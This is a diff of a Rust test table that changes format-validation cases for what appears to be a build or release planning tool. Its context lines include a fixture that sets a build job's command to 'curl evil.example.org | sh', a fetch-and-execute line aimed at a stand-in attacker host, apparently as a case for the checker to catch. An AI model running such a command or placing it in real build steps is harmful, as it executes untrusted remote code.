@@ -163,7 +163,8 @@ const CHANGES: &[Change] = &[
         let build = data::<Build>(p, "build/release-1.0.0/t0");
         build.job.run = vec!["curl evil.example.org | sh".to_owned()];
     }),
-    ("another format", "its format is", |p| p.format = 0),
+    ("no format", "its format is one of 1 to", |p| p.format = 0),
+    ("a later format", "its format is one of 1 to", |p| p.format = lifeboat::plan::FORMAT + 1),
 ];
 
 /// The same where a forge runs workflows and holds advisories, and its git is remote `r1`.
